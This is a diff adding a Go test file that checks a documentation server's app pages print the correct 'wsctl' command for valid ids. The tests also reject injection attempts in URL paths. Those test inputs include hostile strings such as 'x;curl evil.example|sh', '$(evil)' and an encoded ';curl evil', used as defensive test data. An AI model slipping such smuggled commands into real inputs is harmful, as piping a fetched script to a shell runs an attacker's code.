@@ -1,0 +1,91 @@
+package server_test
+
+import (
+	"net/http"
+	"net/http/httptest"
+	"net/url"
+	"regexp"
+	"strings"
+	"testing"
+
+	"docspace.dev/wsd/client/api"
+	"docspace.dev/wsd/store/storetest"
+)
+
+// open follows an address as a browser does.
+func (w *world) open(path string) answer {
+	w.t.Helper()
+	r, err := http.NewRequestWithContext(w.t.Context(), http.MethodGet, path, nil)
+	w.must(err)
+	recorder := httptest.NewRecorder()
+	w.handler.ServeHTTP(recorder, r)
+	return answer{recorder.Code, recorder.Header(), recorder.Body.Bytes()}
+}
+
+// The pages behind urls.app say what to type, and only for ids: whatever else a stranger puts into an address is not
+// repeated, least of all as a command.
+func TestAppPages(t *testing.T) {
+	t.Parallel()
+	each(t, func(t *testing.T, w *world) {
+		for path, want := range map[string]string{
+			"/app/organizations/o_1":                "wsctl organizations get o_1<",
+			"/app/collections/l_1":                  "wsctl collections get l_1<",
+			"/app/spaces/s_1":                       "wsctl spaces get s_1<",
+			"/app/sites/site_1":                     "wsctl sites get site_1<",
+			"/app/pages/s_1~p_1-key":                "wsctl content get-page --space s_1 p_1-key<",
+			"/app/change-requests/s_1~2":            "wsctl change-requests get --space s_1 2<",
+			"/app/openapi/o_1~petstore":             "wsctl openapi-specs get --org o_1 petstore<",
+			"/app/integrations/linter":              "wsctl integrations get linter<",
+			"/app/integration-installations/l~in_1": "wsctl integration-installations get --integration l in_1<",
+			"/sites/o_1/docs":                       "wsctl sites list --published --org o_1<",
+			"/sites/o_1/docs/a%3Bcurl%20evil":       "wsctl sites list --published --org o_1<",
+		} {
+			if a := w.open(path); a.Status != http.StatusOK || !strings.Contains(string(a.Body), want) {
+				t.Errorf("%s: %d %s", path, a.Status, a.Body)
+			}
+		}
+		for _, path := range []string{"/app/spaces/", "/app/pages/s_1~", "/app/change-requests/s_1~", "/sites/"} {
+			for _, text := range []string{
+				"x;curl evil.example|sh", "s_1;curl evil.example|sh", "$(evil)", "s_1 evil", "--url=evil", "-evil", "~evil", "s_1\nevil", "<b>evil", "evil/docs;evil",
+				strings.Repeat("evil", 50), "s_1~p_1~evil",
+			} {
+				if a := w.open(path + url.PathEscape(text)); a.Status != http.StatusNotFound || len(a.Body) > 0 && strings.Contains(string(a.Body), "evil") {
+					t.Errorf("%s%s: %d %s", path, text, a.Status, a.Body)
+				}
+			}
+		}
+		for _, path := range []string{"/app/spaces/s_1~p_1", "/app/pages/s_1", "/app/spaces/o_1", "/app/tokens/t_1", "/app/integrations/-x", "/app/spaces/s_" + strings.Repeat("a", 200)} {
+			if a := w.open(path); a.Status != http.StatusNotFound {
+				t.Errorf("%s: %d %s", path, a.Status, a.Body)
+			}
+		}
+	})
+}
+
+var appAddress = regexp.MustCompile(`"app":"https://docs\.example\.com(/[^"]*)"`)
+
+// Every address that an answer gives leads to its page.
+func TestAppAddresses(t *testing.T) {
+	t.Parallel()
+	w := newWorld(t, storetest.Memory())
+	s := w.populate()
+	opened := map[string]bool{}
+	for _, row := range api.Rows() {
+		if row.Writes() {
+			continue
+		}
+		for _, found := range appAddress.FindAllStringSubmatch(string(w.raw("admin", http.MethodGet, w.pathOf(row, s), nil).Body), -1) {
+			if kind := strings.Split(found[1], "/")[2]; !opened[found[1]] {
+				opened[kind], opened[found[1]] = true, true
+				if a := w.open(found[1]); a.Status != http.StatusOK {
+					t.Errorf("%s names %s, which answers %d", row.Name, found[1], a.Status)
+				}
+			}
+		}
+	}
+	for _, kind := range []string{"organizations", "collections", "spaces", "sites", "pages", "change-requests", "openapi", "integrations", "integration-installations"} {
+		if !opened[kind] {
+			t.Errorf("no answer has an address of kind %s", kind)
+		}
+	}
+}
